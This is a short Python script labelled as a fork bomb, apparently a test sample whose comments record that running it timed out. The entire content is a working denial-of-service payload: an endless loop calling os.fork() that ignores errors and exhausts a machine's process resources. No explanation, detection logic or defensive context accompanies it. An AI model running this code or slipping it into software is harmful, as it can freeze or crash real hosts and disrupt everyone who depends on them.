# A fork bomb.
# outcome: timed_out
# observation: TIMED OUT

import os
while True:
    try:
        os.fork()
    except OSError:
        pass
